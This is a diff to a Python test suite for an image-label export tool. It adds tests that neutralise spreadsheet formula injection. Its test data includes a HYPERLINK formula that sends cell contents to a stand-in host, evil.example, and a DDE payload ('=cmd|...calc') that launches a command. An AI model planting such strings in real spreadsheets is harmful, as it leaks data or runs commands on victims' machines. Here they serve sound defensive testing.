@@ -10,9 +10,10 @@ import pytest
 
 from engine import cli
 from engine.data import schema
+from engine.data.cache import file_sha256
 from engine.errors import EXIT_BAD_INPUT, InputError
-from engine.export import export_labels, provenance_path, read_labels, sha256_file
-from engine.review import ReviewStore
+from engine.export import export_labels, provenance_path, read_labels
+from engine.store import WorkspaceStore
 
 CLASSES = ["normal", "pre-plus", "plus"]
 
@@ -52,7 +53,7 @@ def run_dir(tmp_path):
 
 @pytest.fixture
 def store(tmp_path):
-    with ReviewStore(tmp_path / "workspace.db") as s:
+    with WorkspaceStore(tmp_path / "workspace.db") as s:
         yield s
 
 
@@ -97,7 +98,7 @@ def test_latest_review_overrides_even_consensus(run_dir, store):
 
 def test_without_a_store_there_are_no_reviews_unless_the_run_has_review_db(run_dir):
     assert "review" not in set(export_labels(run_dir)["source"])
-    with ReviewStore(run_dir / "review.db") as s:
+    with WorkspaceStore(run_dir / "review.db") as s:
         _decide(s, run_dir, "b.png", "pre-plus")
     out = export_labels(run_dir).set_index("image")
     assert out.loc["b.png", "source"] == "review"
@@ -106,9 +107,28 @@ def test_without_a_store_there_are_no_reviews_unless_the_run_has_review_db(run_d
 def test_store_given_by_path(run_dir, store, tmp_path):
     _decide(store, run_dir, "c.png", "normal")
     assert export_labels(run_dir, store=str(store.path)).set_index("image").loc["c.png", "final_label"] == "normal"
-    with pytest.raises(InputError, match="review store not found"):
+    with pytest.raises(InputError, match="workspace store not found"):
         export_labels(run_dir, store=tmp_path / "typo.db")
     assert not (tmp_path / "typo.db").exists()
+
+
+def test_a_store_that_is_not_a_workspace_database_is_refused(run_dir, tmp_path, capsys):
+    import sqlite3
+
+    garbage = tmp_path / "notes.db"
+    garbage.write_bytes(b"this is a text file, not SQLite\n" * 10)
+    other = tmp_path / "other.sqlite"
+    with sqlite3.connect(other) as conn:
+        conn.execute("CREATE TABLE patients (name TEXT)")
+    other_bytes = other.read_bytes()
+    out = tmp_path / "out.csv"
+    assert cli.main(["export", str(run_dir), "--out", str(out), "--store", str(garbage)]) == EXIT_BAD_INPUT
+    assert f"{garbage}: is not a workspace database (file is not a database)" in capsys.readouterr().err
+    assert cli.main(["export", str(run_dir), "--out", str(out), "--store", str(other)]) == EXIT_BAD_INPUT
+    assert f"{other}: is an SQLite database of another program" in capsys.readouterr().err
+    assert not out.exists() and not provenance_path(out).exists()
+    assert garbage.read_bytes() == b"this is a text file, not SQLite\n" * 10 and other.read_bytes() == other_bytes
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.db", "other.sqlite", "run"]
 
 
 @pytest.mark.parametrize(
@@ -151,8 +171,8 @@ def test_written_atomically_with_provenance(run_dir, store, tmp_path, monkeypatc
     prov = json.loads(provenance_path(out).read_text())
     assert prov["counts_by_source"] == {"consensus": 1, "review": 1, "model": 1, "majority": 2}
     assert prov["method"] == "mslg" and prov["classes"] == CLASSES and prov["decisions_applied"] == 1
-    assert prov["labels_sha256"] == sha256_file(run_dir / "labels.csv")
-    assert prov["export_sha256"] == sha256_file(out) and prov["engine_version"] and prov["rule"]
+    assert prov["labels_sha256"] == file_sha256(run_dir / "labels.csv")
+    assert prov["export_sha256"] == file_sha256(out) and prov["engine_version"] and prov["rule"]
 
     def broken_to_csv(self, path, **kw):  # a crash half-way through writing
         with open(path, "w") as fh:
@@ -181,3 +201,55 @@ def test_cli(run_dir, store, tmp_path, monkeypatch, capsys):
     assert "wrote 5 rows" in printed and "review" in printed and out.exists()
     assert cli.main(["export", str(tmp_path / "missing"), "--out", str(tmp_path / "x.csv")]) == EXIT_BAD_INPUT
     assert not (tmp_path / "x.csv").exists()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            "fine\r=1+1"]  # a CR inside a cell: quoted, else a spreadsheet starts a new row (and cell) there
+
+
+def test_formula_like_notes_reviewers_votes_and_images_are_neutralised(tmp_path, store):
+    """OWASP's rule for every cell a spreadsheet would run: a leading ' (shown as text, never executed)."""
+    import csv
+
+    from engine import atomic
+
+    run = tmp_path / "run"
+    votes = "@dr_a=plus;-dr_b=normal"  # expert names are free text from votes.csv's header
+    rows = [_row("-scan.png", "plus", False, "plus", votes=votes), _row("=x.png", "plus", True, "plus"),
+            *(_row(f"{i}.png", "normal", True, "normal") for i in range(len(FORMULAS)))]
+    atomic.write_csv(run / "labels.csv", pd.DataFrame(rows, columns=schema.labels_columns(CLASSES)))
+    raw_labels = (run / "labels.csv").read_text()
+    assert "\n'-scan.png," in raw_labels and "\n'=x.png," in raw_labels and ",'@dr_a=plus;-dr_b=normal," in raw_labels
+    labels, _ = read_labels(run / "labels.csv")  # read back as written: the run's own names are kept
+    assert list(labels["image"][:2]) == ["-scan.png", "=x.png"] and labels["votes"][0] == votes
+
+    _decide(store, run, "-scan.png", "normal", reviewer="=cmd|' /C calc'!A0", note="-2+3")
+    for i, text in enumerate(FORMULAS):
+        _decide(store, run, f"{i}.png", "plus", reviewer=text.strip() or "x", note=text)
+    out = tmp_path / "cleaned.csv"
+    frame = export_labels(run, store=store, out=out)
+    with open(out, newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    written = {c[1:] for c in cells if c.startswith("'")}
+    for text in [*FORMULAS, "-2+3", "=cmd|' /C calc'!A0", "-scan.png", "=x.png", votes]:
+        assert text in written or text == "fine\r=1+1", repr(text)
+    assert "fine\r=1+1" in cells and "0.8" in cells  # the CR stayed inside its quoted cell; numbers as they are
+    assert frame.set_index("image").loc["-scan.png", "note"] == "-2+3"  # the returned frame holds the real text
+
+
+def test_a_roles_file_keeps_formula_like_image_names_through_a_round_trip(tmp_path):
+    from PIL import Image
+
+    from engine.data.split import read_roles, write_roles
+    from engine.data.votes import read_votes
+
+    ds = tmp_path / "ds"
+    ds.mkdir()
+    for name in ("-a.png", "+b.png", "c.png"):
+        Image.new("RGB", (4, 4)).save(ds / name)
+    (ds / "votes.csv").write_text("image,dr_a,dr_b\n-a.png,n,n\n+b.png,p,p\nc.png,n,p\n")
+    table = read_votes(ds)
+    write_roles(tmp_path / "roles.csv", list(table.frame["image"]), ["meta", "test", "train"])
+    assert "'-a.png,meta" in (tmp_path / "roles.csv").read_text()
+    assert list(read_roles(tmp_path / "roles.csv", table)) == ["meta", "test", "train"]
